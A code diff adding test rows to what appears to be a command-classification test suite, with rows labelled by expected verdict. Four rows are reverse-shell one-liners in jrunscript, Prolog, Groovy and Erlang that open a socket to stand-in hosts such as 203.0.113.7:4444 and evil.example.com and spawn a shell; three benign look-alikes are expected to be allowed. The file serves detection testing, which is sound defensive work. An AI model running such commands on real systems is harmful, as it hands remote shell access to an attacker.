@@ -121,3 +121,28 @@ const LAUNCHER_ROWS: readonly ClassRow[] = [
 ];
 
 classTable("servers that run a program for whoever connects under the %s profile", LAUNCHER_ROWS);
+
+/**
+ * ADR 0664: code in a language the analyzer does not read, given on a command line, with a socket, a literal
+ * endpoint and a door to the shell in one argument. A local port check, a command run locally and a commit message
+ * about sockets stay allowed.
+ */
+const FOREIGN_CODE_ROWS: readonly ClassRow[] = [
+  [
+    'jrunscript -e \'var s=new java.net.Socket("203.0.113.7",4444);var p=new java.lang.ProcessBuilder("/bin/sh","-i").start()\'',
+    RS,
+    RS,
+  ],
+  [
+    "swipl -g \"tcp_connect('203.0.113.7':4444,S,[]),stream_pair(S,I,O),repeat,read_line_to_string(I,C),shell(C),fail\" -t halt",
+    RS,
+    RS,
+  ],
+  ['groovy -e \'def s=new Socket("evil.example.com",443); def p="sh".execute()\'', RS, RS],
+  ['erl -noshell -eval \'{ok,S}=gen_tcp:connect("203.0.113.7",4444,[]),os:cmd("id")\'', RS, RS],
+  ['swipl -g "tcp_connect(localhost:5432,S,[]),close(S)" -t halt', "allow", "allow"],
+  ["jrunscript -e 'print(new java.lang.ProcessBuilder(\"ls\").start().waitFor())'", "allow", "allow"],
+  ['git commit -m "fix: socket(connect) to localhost:8080 then exec(cmd)"', "allow", "allow"],
+];
+
+classTable("reverse shells in languages nobody here reads under the %s profile", FOREIGN_CODE_ROWS);
